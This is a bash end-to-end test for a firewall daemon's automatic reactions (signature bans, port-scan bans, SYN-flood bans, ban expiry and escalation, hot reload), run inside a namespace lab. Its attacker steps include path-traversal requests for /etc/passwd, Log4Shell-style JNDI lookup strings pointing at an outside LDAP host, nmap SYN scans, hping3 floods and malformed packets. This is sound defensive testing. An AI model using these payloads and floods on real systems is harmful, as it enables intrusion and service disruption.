#!/usr/bin/env bash
# End-to-end: the shipped reactions (autoban, portscan, synflood) in the namespace lab with real tools.
# A client fetches pages (curl, v4 and v6) and keeps two long-lived TCP connections open the whole time;
# an attacker sends signature-matching HTTP requests, nmap SYN scans, hping3/scapy floods and malformed
# packets. Proves: no legitimate request fails; a signature hit drops the request and bans its source
# (latency from the match event to the ban in the map is measured, target 100 ms); a scan is banned
# while nmap still runs; bans expire and escalate (3 s, then 6 s); SIGHUP and `hyperionctl reload` lose
# no connection and no ban; a broken policy is refused and the old one keeps enforcing. v4 and v6.
set -u
cd "$(dirname "$0")/../.." || exit 1
LAB_ID=$$
source scripts/lab.sh
POLICY_SRC=${POLICY_SRC:-tests/e2e/policies/reactions.lua}   # overridable: run it against another policy
LATENCY_TARGET_MS=100      # the issue's target: reported, not asserted (timing on a shared 2-core box)
LATENCY_LIMIT_MS=1000      # asserted: 10x the target, so only a broken path fails
source tests/e2e/lib.sh

e2e_require nmap hping3 ncat curl ss
"$LAB_PY" -c 'import scapy.all' 2>/dev/null || { skip "missing python3-scapy (make deps)"; finish; }
e2e_traps 30

lab_up
mac=$(lab_server_mac)
lab_start_http || { notok "HTTP server on :80"; finish; }
lab_start_http_on "$LAB_NS_SERVER" 8080 "$LAB_SERVER4" "$LAB_NS_CLIENT" || { notok "HTTP server on :8080"; finish; }
lab_start_echo "$LAB_NS_SERVER" 22 || { notok "echo server on :22"; finish; }
lab_start_http_on "$LAB_NS_SERVER" 8081 "$LAB_SERVER4" "$LAB_NS_CLIENT" || { notok "HTTP server on :8081"; finish; }
cp "$POLICY_SRC" "$LAB_DIR/policy.lua"
if lab_start_daemon "$LAB_DIR/policy.lua"; then ok "hyperiond starts with $POLICY_SRC"; else notok "hyperiond starts"; finish; fi
ctl status | sed 's/^/# /'
T_START=$SECONDS
for u in "http://$LAB_SERVER4:8081/" "http://[$LAB_SERVER6]:8081/"; do
	! cli curl -s -o /dev/null --max-time 1 "$u" && ok "policy enforced: $u (listening, not in allow_tcp) refused" ||
		notok "policy enforced: $u refused"
done

http_log_has() { grep -qF -- "$1" "$LAB_DIR/http.log"; }   # did the request reach the HTTP server?
curl_from() {   # source-address url [curl args...]: one request from the attacker namespace, exit code
	local src=$1 url=$2; shift 2
	att curl -s -o /dev/null -g --path-as-is --max-time "${CURL_MAX:-1.5}" --interface "$src" "$@" "$url"
}
# A dropped request stays in the attacker's send queue: its kernel retransmits it for minutes after curl
# gives up, and each retransmit after a ban expires is a new offence. Kill those sockets (ss -K).
att_flush() { local a=$1; [[ $a == *:* ]] && a="[$a]"; att ss -K -tn src "$a" >/dev/null 2>&1; }
attack() {   # source-address url [curl args...]: curl_from, then att_flush; exit code of curl
	curl_from "$@"
	local rc=$?
	att_flush "$1"
	return $rc
}
url_of() { case $1 in *:*) echo "http://[$LAB_SERVER6]${2:-}" ;; *) echo "http://$LAB_SERVER4${2:-}" ;; esac; }
url_port() { case $1 in *:*) echo "http://[$LAB_SERVER6]:$2/" ;; *) echo "http://$LAB_SERVER4:$2/" ;; esac; }
srv_addr() { case $1 in *:*) echo "$LAB_SERVER6" ;; *) echo "$LAB_SERVER4" ;; esac; }

# ---- legitimate traffic for the whole run --------------------------------------------------------------
# The client: a page over v4 and one over v6 every 0.2 s (bounded: 1500 rounds or the stop file).
(
	for i in $(seq 1 1500); do
		[ -e "$LAB_DIR/stop" ] && break
		for u in "http://$LAB_SERVER4/index.html" "http://[$LAB_SERVER6]/index.html"; do
			fam=4; [[ $u == *\[* ]] && fam=6
			if cli curl -s -o /dev/null --max-time 2 "$u"; then echo "ok$fam"; else echo "fail$fam $? $(date +%T.%N)"; fi
		done
		sleep 0.2
	done >"$LAB_DIR/client.log"
) &
BG_PIDS+=($!)
# Two long-lived connections (one v4, one v6) to the echo server on :22, a line every 100 ms, never
# reconnecting: any break by attacks, bans or reloads shows as a failure.
labtool_in "$LAB_NS_CLIENT" keepalive "$LAB_SERVER4" 22 "$LAB_DIR/ka4.log" "$LAB_DIR/stop" 240 &
BG_PIDS+=($!)
labtool_in "$LAB_NS_CLIENT" keepalive "$LAB_SERVER6" 22 "$LAB_DIR/ka6.log" "$LAB_DIR/stop" 240 &
BG_PIDS+=($!)
sleep 1

# ---- signature with action drop: each request is dropped, the third request (threshold 3) bans the source --
# (retransmits of one dropped request count once: tests/lua/test_reactions.lua proves that part)
for src in 192.0.2.67 2001:db8:0:66::67; do
	before=$(lab_stat drop_sig)
	rcs=()
	for n in 1 2 3; do
		CURL_MAX=2 curl_from "$src" "$(url_of "$src" /static/../../etc/passwd?n=$n)"
		rcs+=($?)
	done
	waited=$(lab_wait_ban "$src" 1 3) && row=$(lab_ban_row "$src") || row=
	att_flush "$src"
	[ "${rcs[0]}" -ne 0 ] && [ "${rcs[1]}" -ne 0 ] && [ "${rcs[2]}" -ne 0 ] && ! http_log_has "/etc/passwd" &&
		ok "[$src] 3 x GET /static/../../etc/passwd dropped (curl exits ${rcs[*]}, never reached the server)" ||
		notok "[$src] GET /etc/passwd dropped (curl exits ${rcs[*]}; in server log: $(http_log_has /etc/passwd && echo yes || echo no))"
	after=$(lab_stat drop_sig)
	check "[$src] drop_sig counter rose ($before -> $after)" [ "$after" -gt "$before" ]
	[ -n "$row" ] && ok "[$src] autoban banned the source after 3 requests (${waited}s after the last): $(cut -f4 <<<"$row")" ||
		notok "[$src] autoban banned the source (not banned ${waited}s after the third request)"
done

# ---- signature with action ban: first hit bans; latency from the match event to the ban in the map ------
# banwatch subscribes to events, then polls the ban list over the control socket in a tight loop: the
# latency is (first poll that shows the ban) - (the match event's ts_ns), both CLOCK_MONOTONIC, so it
# over-estimates by at most one poll gap. LAT_ROUNDS rounds per family (the ban is deleted in between).
LAT_ROUNDS=${LAT_ROUNDS:-5}
for src in 192.0.2.66 2001:db8::66; do
	lats=()
	for round in $(seq 1 "$LAT_ROUNDS"); do
		labtool banwatch "$src" 10 >"$LAB_DIR/banwatch.out" 2>&1 &
		bw=$!
		for i in $(seq 1 50); do grep -q READY "$LAB_DIR/banwatch.out" && break; sleep 0.1; done
		attack "$src" "$(url_of "$src" "/?q=\${jndi:ldap://198.51.100.99/$round}")" -H 'User-Agent: ${jndi:ldap://198.51.100.99/a}'
		rc=$?
		wait "$bw"
		res=$(sed -n 's/^RESULT //p' "$LAB_DIR/banwatch.out")
		lat=$("$LAB_PY" -c 'import json,sys; r=json.loads(sys.argv[1] or "{}"); print(r.get("latency_ms",""))' "$res" 2>/dev/null)
		gap=$("$LAB_PY" -c 'import json,sys; print(json.loads(sys.argv[1] or "{}").get("poll_gap_ms","?"))' "$res" 2>/dev/null)
		note "[$src] round $round: latency ${lat:-?} ms (poll gap ${gap} ms), curl exit $rc"
		[ -n "$lat" ] && lats+=("$lat")
		if [ "$round" = 1 ]; then
			note "[$src] banwatch: $res"
			[ "$rc" -ne 0 ] && ! http_log_has 'jndi' && ok "[$src] \${jndi: request dropped before the server (curl exit $rc)" ||
				notok "[$src] \${jndi: request dropped (curl exit $rc)"
			reason=$("$LAB_PY" -c 'import json,sys; print(json.loads(sys.argv[1] or "{}").get("ban",{}).get("reason",""))' "$res" 2>/dev/null)
			[[ $reason == *"signature log4shell"* ]] && ok "[$src] first hit banned the source, reason: $reason" ||
				notok "[$src] first hit bans the source with a reason naming the signature (reason: $reason)"
		fi
		[ "$round" -lt "$LAT_ROUNDS" ] && ctl ban del "$src" >/dev/null 2>&1
	done
	if [ "${#lats[@]}" -eq "$LAT_ROUNDS" ]; then
		read -r lmin lmed lmax < <(printf '%s\n' "${lats[@]}" | sort -g | awk '{ v[NR] = $1 } END { print v[1], v[int((NR + 1) / 2)], v[NR] }')
		echo "LATENCY $src match event -> ban in map: min ${lmin} ms, median ${lmed} ms, max ${lmax} ms over $LAT_ROUNDS rounds (target ${LATENCY_TARGET_MS} ms)"
		awk -v l="$lmax" -v m="$LATENCY_LIMIT_MS" 'BEGIN { exit !(l >= 0 && l < m) }' &&
			ok "[$src] match event -> ban in map: median ${lmed} ms, max ${lmax} ms (target ${LATENCY_TARGET_MS} ms, asserted < ${LATENCY_LIMIT_MS} ms)" ||
			notok "[$src] match event -> ban in map: max ${lmax} ms (limit ${LATENCY_LIMIT_MS} ms)"
		awk -v l="$lmax" -v m="$LATENCY_TARGET_MS" 'BEGIN { exit !(l < m) }' || note "WARN latency max ${lmax} ms over the ${LATENCY_TARGET_MS} ms target"
	else
		notok "[$src] match event and ban observed in every round (${#lats[@]} of $LAT_ROUNDS)"
	fi
done

# ---- port scan: nmap -sS, banned before it finishes, later probes dropped ---------------------------------
for src in 192.0.2.68 2001:db8:0:66::68; do
	dst=$(srv_addr "$src")
	check "[$src] port 8080 answers this source before the scan" curl_from "$src" "$(url_port "$src" 8080)"
	six=; [[ $src == *:* ]] && six=-6
	# sequential (-r) ports 1-300 then 8080, 100 probes/s: ~3 s; 8080 is open, so it shows "open" unless
	# the scanner was banned before nmap got there.
	att timeout 60 nmap $six -n -Pn -sS -e eth0 -S "$src" -r -p 1-300,8080 --max-retries 0 --max-rate 100 \
		"$dst" >"$LAB_DIR/nmap.out" 2>&1 &
	np=$!
	t0=$(date +%s.%N) banned_at='' running_at_ban=no
	for i in $(seq 1 600); do
		if lab_banned "$src"; then
			banned_at=$(awk -v a="$t0" -v b="$(date +%s.%N)" 'BEGIN { printf "%.2f", b - a }')
			kill -0 "$np" 2>/dev/null && running_at_ban=yes
			break
		fi
		kill -0 "$np" 2>/dev/null || break
		sleep 0.05
	done
	wait "$np"
	t_scan=$(awk -v a="$t0" -v b="$(date +%s.%N)" 'BEGIN { printf "%.2f", b - a }')
	[ -n "$banned_at" ] && [ "$running_at_ban" = yes ] &&
		ok "[$src] scanner banned ${banned_at}s into the scan, nmap still running (scan took ${t_scan}s): $(lab_ban_row "$src" | cut -f4)" ||
		notok "[$src] scanner banned while nmap ran (banned at: ${banned_at:-never}, nmap running then: $running_at_ban, scan ${t_scan}s)"
	grep -E '^(PORT|[0-9]+/tcp)|Not shown|filtered' "$LAB_DIR/nmap.out" | head -n 6 | sed 's/^/#   nmap: /'
	if grep -q 'Nmap done' "$LAB_DIR/nmap.out"; then
		! grep -qE '^8080/tcp +open' "$LAB_DIR/nmap.out" && ok "[$src] the scan's later probe (8080, open) was dropped: nmap did not see it open" ||
			notok "[$src] nmap still saw 8080 open after the ban"
	else
		notok "[$src] nmap completed (output: $(tail -n 2 "$LAB_DIR/nmap.out" | tr '\n' ' '))"
	fi
done

# ---- expiry and escalation: 3 s, then 6 s -----------------------------------------------------------------
jndi() { attack "$1" "$(url_of "$1" '/')" -H 'X-Api: ${jndi:ldap://198.51.100.99/a}'; }
# One ban cycle for SRC, run in the background for v4 and v6 at once: offend, see the ban and its TTL,
# time it until it is gone, check traffic passes again. Prints TAP lines (counted by collect) and
# "DUR src n seconds".
ban_cycle() {   # src n
	local src=$1 n=$2 tb='' tg='' row='' ttl i cp lo hi
	CURL_MAX=0.5 jndi "$src" &
	cp=$!
	for i in $(seq 1 60); do
		if lab_banned "$src"; then tb=$(date +%s.%N); row=$(lab_ban_row "$src"); break; fi
		sleep 0.05
	done
	wait "$cp"
	if [ -z "$tb" ]; then echo "not ok - [$src] ban #$n in place within 3 s"; return; fi
	ttl=$(cut -f2 <<<"$row")
	if [ "$n" = 1 ]; then lo=2 hi=3; else lo=5 hi=6; fi
	[ "$ttl" -ge "$lo" ] 2>/dev/null && [ "$ttl" -le "$hi" ] && { [ "$n" = 1 ] || [[ $row == *"ban #2"* ]]; } &&
		echo "ok - [$src] ban #$n: expires in ${ttl}s as listed (policy: $((3 * n)) s): $(cut -f4 <<<"$row")" ||
		echo "not ok - [$src] ban #$n expires in $lo..$hi s$([ "$n" = 2 ] && echo ' and says ban #2') (row: $row)"
	for i in $(seq 1 $(((n * 3 + 6) * 20))); do
		lab_banned "$src" || { tg=$(date +%s.%N); break; }
		sleep 0.05
	done
	if [ -z "$tg" ]; then echo "not ok - [$src] ban #$n expired within $((n * 3 + 6)) s"; return; fi
	local dur
	dur=$(awk -v a="$tb" -v b="$tg" 'BEGIN { printf "%.1f", b - a }')
	echo "ok - [$src] ban #$n expired: listed for ${dur}s"
	echo "DUR $src $n $dur"
	curl_from "$src" "$(url_of "$src" /index.html)" && echo "ok - [$src] traffic passes again after ban #$n expired" ||
		echo "not ok - [$src] traffic passes again after ban #$n expired"
}
collect() {   # file: count the TAP lines a background helper wrote
	local line
	while IFS= read -r line; do
		case $line in
		"ok - "*) ok "${line#ok - }" ;;
		"not ok - "*) notok "${line#not ok - }" ;;
		*) echo "# $line" ;;
		esac
	done <"$1"
}
for n in 1 2; do
	jp=()
	for src in 192.0.2.69 2001:db8:0:66::69; do ban_cycle "$src" "$n" >"$LAB_DIR/cycle-$n-${src//[.:]/_}" 2>&1 & jp+=($!); done
	wait "${jp[@]}"
	for src in 192.0.2.69 2001:db8:0:66::69; do collect "$LAB_DIR/cycle-$n-${src//[.:]/_}"; done
done
for src in 192.0.2.69 2001:db8:0:66::69; do
	g1=$(cat "$LAB_DIR"/cycle-1-* | awk -v s="$src" '$1 == "DUR" && $2 == s { print $4 }')
	g2=$(cat "$LAB_DIR"/cycle-2-* | awk -v s="$src" '$1 == "DUR" && $2 == s { print $4 }')
	[ -n "$g1" ] && [ -n "$g2" ] && awk -v a="$g1" -v b="$g2" 'BEGIN { exit !(b > a + 1) }' &&
		ok "[$src] the second ban lasted longer than the first (${g1}s -> ${g2}s measured)" ||
		notok "[$src] the second ban lasted longer than the first (${g1:-?}s -> ${g2:-?}s)"
done

# ---- floods and malformed packets while the client keeps working ------------------------------------------
att timeout 4 hping3 -q -S -p 80 -a 192.0.2.70 -i u200 "$LAB_SERVER4" >/dev/null 2>&1 &
fl4=$!
labtool_in "$LAB_NS_ATTACKER" synflood6 2001:db8:0:66::70 "$LAB_SERVER6" "$mac" 80 1500 >/dev/null 2>&1 &
fl6=$!
for src in 192.0.2.70 2001:db8:0:66::70; do
	waited=$(lab_wait_ban "$src" 1 12) && ok "[$src] SYN flood source banned by synflood (${waited}s): $(lab_ban_row "$src" | cut -f4)" ||
		notok "[$src] SYN flood source banned within 12 s"
done
wait "$fl4" "$fl6"
check "drop_rate_syn counted the flood ($(lab_stat drop_rate_syn) packets)" [ "$(lab_stat drop_rate_syn)" -gt 0 ]
# Malformed packets: each kind must be dropped for its own reason (the first of each kind is judged before
# autoban bans the source for them; later ones may be dropped as banned). Every one must be dropped.
drops_total() { labtool stats 2>/dev/null | awk '$1 == "verdict" && $2 == "drop" { s += $4 } END { print s + 0 }'; }
declare -A mb
for r in drop_malformed_l3 drop_malformed_l4 drop_invalid drop_ext_chain; do mb[$r]=$(lab_stat $r); done
d_before=$(drops_total)
labtool_in "$LAB_NS_ATTACKER" malformed 192.0.2.71 "$LAB_SERVER4" "$mac" | sed 's/^/# v4: /'
labtool_in "$LAB_NS_ATTACKER" malformed 2001:db8:0:66::71 "$LAB_SERVER6" "$mac" | sed 's/^/# v6: /'
sleep 0.5
d_after=$(drops_total)
for r in drop_malformed_l3 drop_malformed_l4 drop_invalid drop_ext_chain; do
	a=$(lab_stat $r)
	check "malformed: $r counted (${mb[$r]} -> $a)" [ "$a" -gt "${mb[$r]}" ]
done
check "malformed: all 220 dropped (drops rose by $((d_after - d_before)))" [ $((d_after - d_before)) -ge 220 ]
# A UDP datagram carrying a ban signature (proto any) to the open DNS port bans its source.
for src in 192.0.2.72 2001:db8:0:66::72; do
	labtool_in "$LAB_NS_ATTACKER" udp-send "$src" "$(srv_addr "$src")" 53 '${jndi:ldap://198.51.100.99/a}'
	waited=$(lab_wait_ban "$src" 1 3) && ok "[$src] UDP datagram with \${jndi: banned its source (${waited}s)" ||
		notok "[$src] UDP datagram with \${jndi: bans its source"
done

# ---- hot reload during traffic: no connection, no ban lost --------------------------------------------------
ctl ban add 192.0.2.73 --ttl 600 --reason "e2e manual v4" >/dev/null
ctl ban add 2001:db8:0:66::73 --ttl 600 --reason "e2e manual v6" >/dev/null
for src in 192.0.2.73 2001:db8:0:66::73; do
	! attack "$src" "$(url_of "$src" /index.html)" && ok "[$src] manual ban enforced before reload" ||
		notok "[$src] manual ban enforced before reload"
done
bans_before=$(labtool bans | cut -f1 | sort | tr '\n' ' ')
t_reload=$(labtool now)
daemon_pid=$(ctl --json status | "$LAB_PY" -c 'import json,sys; print(json.load(sys.stdin)["pid"])' 2>/dev/null)
check "hyperiond pid from status ($daemon_pid) is the one started ($LAB_DAEMON_PID)" [ "$daemon_pid" = "$LAB_DAEMON_PID" ]
kill -HUP "$LAB_DAEMON_PID"
sleep 1
check "hyperiond alive after SIGHUP" kill -0 "$LAB_DAEMON_PID"
out=$(ctl reload 2>&1); rc=$?
check "hyperionctl reload exits 0 ($out)" [ "$rc" -eq 0 ]
sleep 1.5
reloads=$(ctl --json status | "$LAB_PY" -c 'import json,sys; print(json.load(sys.stdin).get("reloads"))' 2>/dev/null)
check "status counts both reloads (reloads=$reloads)" [ "${reloads:-0}" -ge 2 ]
for f in ka4 ka6; do
	after=$(awk -v t="$t_reload" '$1 == "ok" && $3 > t { n++ } END { print n + 0 }' "$LAB_DIR/$f.log")
	fails=$(grep -c '^fail' "$LAB_DIR/$f.log")
	[ "$after" -ge 10 ] && [ "$fails" -eq 0 ] &&
		ok "[$f] long-lived connection still exchanges data after SIGHUP + reload ($after round trips since, 0 failures)" ||
		notok "[$f] long-lived connection survives reloads ($after round trips since reload, $fails failures: $(grep -m1 '^fail' "$LAB_DIR/$f.log"))"
done
bans_after=$(labtool bans | cut -f1 | sort | tr '\n' ' ')
for src in 192.0.2.73 2001:db8:0:66::73; do
	lab_banned "$src" && ! attack "$src" "$(url_of "$src" /index.html)" &&
		ok "[$src] manual ban still listed and enforced after reloads" ||
		notok "[$src] manual ban survives reloads (before: $bans_before; after: $bans_after)"
done
# hx.store (escalation history) survives the reload: a third offence gets 12 s
jndi 192.0.2.69
row=$(lab_wait_ban 192.0.2.69 1 3 >/dev/null; lab_ban_row 192.0.2.69)
ttl=$(cut -f2 <<<"$row")
[ "$ttl" -ge 9 ] 2>/dev/null && [ "$ttl" -le 12 ] && ok "[192.0.2.69] escalation history survived the reloads: third ban ${ttl}s (12 s)" ||
	notok "[192.0.2.69] third ban after reload lasts 12 s (row: $row)"

# ---- broken policy: refused, the old one keeps enforcing ------------------------------------------------------
sigs_before=$(ctl --json status | "$LAB_PY" -c 'import json,sys; print(json.load(sys.stdin).get("signatures"))' 2>/dev/null)
cp "$LAB_DIR/policy.lua" "$LAB_DIR/policy.good"
printf '\nhx.config{ mode = "enforce", allow_tcp = { 1, 2, 3 }\n-- missing brace: a syntax error\n' >>"$LAB_DIR/policy.lua"
out=$(ctl reload 2>&1); rc=$?
check "reload of a broken policy refused (exit $rc: $(head -c 160 <<<"$out"))" [ "$rc" -eq 1 ]
kill -HUP "$LAB_DAEMON_PID"
sleep 1
check "hyperiond alive after SIGHUP with a broken policy" kill -0 "$LAB_DAEMON_PID"
failures=$(ctl --json status | "$LAB_PY" -c 'import json,sys; print(json.load(sys.stdin).get("reload_failures"))' 2>/dev/null)
check "status counts the failed reloads (reload_failures=$failures)" [ "${failures:-0}" -ge 2 ]
sigs_now=$(ctl --json status | "$LAB_PY" -c 'import json,sys; print(json.load(sys.stdin).get("signatures"))' 2>/dev/null)
check "old policy still loaded ($sigs_now signatures, was $sigs_before)" [ -n "$sigs_now" ] && [ "$sigs_now" = "$sigs_before" ]
for src in 192.0.2.74 2001:db8:0:66::74; do
	! attack "$src" "$(url_of "$src" /a/../../etc/passwd)" && ! http_log_has "/a/../../etc/passwd" &&
		ok "[$src] old policy still drops signature hits" || notok "[$src] old policy still drops signature hits"
done
for src in 192.0.2.75 2001:db8:0:66::75; do
	check "[$src] old policy still serves port 80" curl_from "$src" "$(url_of "$src" /index.html)"
	! curl_from "$src" "$(url_port "$src" 8081)" && ok "[$src] old policy still refuses port 8081" ||
		notok "[$src] old policy still refuses port 8081"
done
for src in 192.0.2.73 2001:db8:0:66::73; do
	lab_banned "$src" && ! attack "$src" "$(url_of "$src" /index.html)" &&
		ok "[$src] bans still enforced after the refused reloads" || notok "[$src] bans still enforced after the refused reloads"
done
cp "$LAB_DIR/policy.good" "$LAB_DIR/policy.lua"
check "reload of the restored policy succeeds" ctl reload >/dev/null

# ---- the legitimate side never noticed ----------------------------------------------------------------------
touch "$LAB_DIR/stop"
for p in "${BG_PIDS[@]}"; do wait "$p" 2>/dev/null; done
BG_PIDS=()
ok4=$(grep -c '^ok4' "$LAB_DIR/client.log"); ok6=$(grep -c '^ok6' "$LAB_DIR/client.log")
fails=$(grep -c '^fail' "$LAB_DIR/client.log")
[ "$ok4" -gt 50 ] && [ "$ok6" -gt 50 ] && [ "$fails" -eq 0 ] &&
	ok "client: every request succeeded during the attacks ($ok4 v4 + $ok6 v6, 0 failed)" ||
	notok "client: every request succeeded ($ok4 v4 ok, $ok6 v6 ok, $fails failed: $(grep -m3 '^fail' "$LAB_DIR/client.log" | tr '\n' ';'))"
for f in ka4 ka6; do
	d=$(grep '^done' "$LAB_DIR/$f.log")
	[[ $d == *"fail=0" ]] && ok "[$f] long-lived connection: $d" || notok "[$f] long-lived connection: ${d:-no summary} $(grep -m1 '^fail' "$LAB_DIR/$f.log")"
done
for src in "$LAB_CLIENT4" "$LAB_CLIENT6"; do
	! lab_banned "$src" && ok "client $src never banned" || notok "client $src was banned: $(lab_ban_row "$src")"
done
check "hyperiond still running" kill -0 "$LAB_DAEMON_PID"
note "stats:"; ctl stats 2>&1 | sed 's/^/#   /'
note "test body took $((SECONDS - T_START)) s"
finish
